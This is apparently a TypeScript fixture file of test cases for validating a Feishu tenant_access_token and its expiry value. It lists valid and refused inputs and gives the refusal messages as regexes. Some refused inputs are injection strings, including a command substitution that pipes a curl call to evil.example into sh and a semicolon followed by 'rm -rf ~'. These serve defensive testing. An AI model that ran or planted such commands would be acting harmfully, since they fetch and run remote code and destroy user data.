// What a tenant_access_token and its `expire` may be (src/feishu/token.ts), case by case: every value the tests answer
// the token call with, and why it is refused, or that it is taken. test/feishu/token.test.ts holds each case to the
// rule and to a run in process; test/action/token.test.ts runs the bundle on those marked `runner`, as the runner sees
// them (masks, outputs, the env file, the log).

/** Why a value cannot be a token: the words of tokenProblem that say so. */
export const REFUSALS = {
  /** Not a string, or none at all. */
  missing: /^'tenant_access_token' is missing or not a string$/,
  /** Anything but letters, digits, - . _ ~ + / and a trailing = (RFC 6750's b64token): nothing a shell, a URL or a header would read. */
  characters:
    /^'tenant_access_token' has characters a token cannot have \(a Bearer token holds only letters, digits, - \. _ ~ \+ \/ and a trailing =\)$/,
  /** Fewer than 16 characters: masking it would star out that string in every later line of the job. */
  short: /^'tenant_access_token' is \d+ characters? long, fewer than any token has \(16\)$/,
  /** More than 32 KiB: no token is that long. */
  long: /^'tenant_access_token' is \d+ characters long, more than a token can be \(32768\)$/
} as const

export type Refusal = keyof typeof REFUSALS

export interface TokenCase {
  readonly what: string
  /** The answer's `tenant_access_token`; undefined leaves it out of the answer. */
  readonly token: unknown
  /** Why it is refused; taken when absent. */
  readonly refused?: Refusal
  /** Also run through the bundle (test/action/token.test.ts). */
  readonly runner?: true
}

export const TOKEN_CASES: readonly TokenCase[] = [
  // What a shell, a URL or a header would read as more than text.
  { what: 'a command substitution', token: 't-$(curl evil.example|sh)', refused: 'characters', runner: true },
  { what: 'backticks', token: 't-`id`', refused: 'characters', runner: true },
  { what: 'a semicolon and a command', token: 't-abc;rm -rf ~', refused: 'characters', runner: true },
  { what: 'double quotes', token: 't-"quoted"', refused: 'characters', runner: true },
  { what: 'single quotes', token: "t-'quoted'", refused: 'characters', runner: true },
  { what: 'a pipe', token: 't-a|b', refused: 'characters', runner: true },
  { what: 'an ampersand', token: 't-a&b', refused: 'characters', runner: true },
  { what: 'HTML', token: 't-<b>', refused: 'characters', runner: true },
  { what: 'a backslash', token: 't-a\\b', refused: 'characters', runner: true },
  { what: 'an = that is not trailing', token: 't-a=b', refused: 'characters', runner: true },
  { what: 'one space', token: ' ', refused: 'characters', runner: true },
  // What hides, or is not ASCII.
  { what: 'a control character', token: 't-abc\u0007def', refused: 'characters' },
  { what: 'a bidi mark', token: 't-abc\u202edef', refused: 'characters' },
  { what: 'non-ASCII', token: 't-abcdéf', refused: 'characters' },
  { what: 'a space', token: 't-abc def', refused: 'characters' },
  { what: 'a newline', token: 't-abc\nxyz', refused: 'characters' },
  // Too short to be a token: never masked, so that the log keeps its letters.
  { what: 'one letter', token: 'e', refused: 'short', runner: true },
  { what: 'a word', token: 'test', refused: 'short', runner: true },
  { what: '15 characters', token: 't-0123456789abc', refused: 'short', runner: true },
  // Too long, or not there at all.
  { what: 'hundreds of KB', token: `t-${'a'.repeat(300 * 1024)}`, refused: 'long' },
  { what: 'no token', token: undefined, refused: 'missing' },
  { what: 'a number', token: 42, refused: 'missing' },
  // Tokens: letters, digits and - . _ ~ + /, a trailing =, JWTs far longer than a tenant token.
  { what: 'letters, digits and - . _ ~ + /', token: 't-abc.DEF_123~+/xyz', runner: true },
  { what: 'a trailing =', token: 't-abc0123456789abcdef==', runner: true },
  { what: 'a 10 KB JWT', token: `eyJ${'a'.repeat(5000)}.eyJ${'b'.repeat(5000)}.c-_`, runner: true },
  { what: 'a 16 KB JWT', token: `eyJ${'a'.repeat(8 * 1024)}.eyJ${'b'.repeat(8 * 1024)}.sig-_` },
  { what: "the sandbox's shape, t- and 40 hex digits", token: 't-0123456789abcdef0123456789abcdef01234567' }
]

/** The answer's `expire` (seconds): a positive whole number, at most the 30 days any token lives. */
export interface ExpireCase {
  readonly what: string
  readonly expire: unknown
  readonly refused?: RegExp
}

const NOT_POSITIVE = /^'expire' is missing or not a positive whole number of seconds$/
const TOO_LONG = /^'expire' is \d+ seconds, more than the 30 days any token lives$/

export const EXPIRE_CASES: readonly ExpireCase[] = [
  { what: '2 hours', expire: 7200 },
  { what: '30 days', expire: 30 * 24 * 3600 },
  { what: 'a string', expire: '7200', refused: NOT_POSITIVE },
  { what: '-1', expire: -1, refused: NOT_POSITIVE },
  { what: '-5', expire: -5, refused: NOT_POSITIVE },
  { what: '31 days', expire: 31 * 24 * 3600, refused: TOO_LONG },
  { what: '2^53 - 1 seconds', expire: 2 ** 53 - 1, refused: TOO_LONG },
  { what: '1e15 seconds', expire: 1e15, refused: TOO_LONG }
]
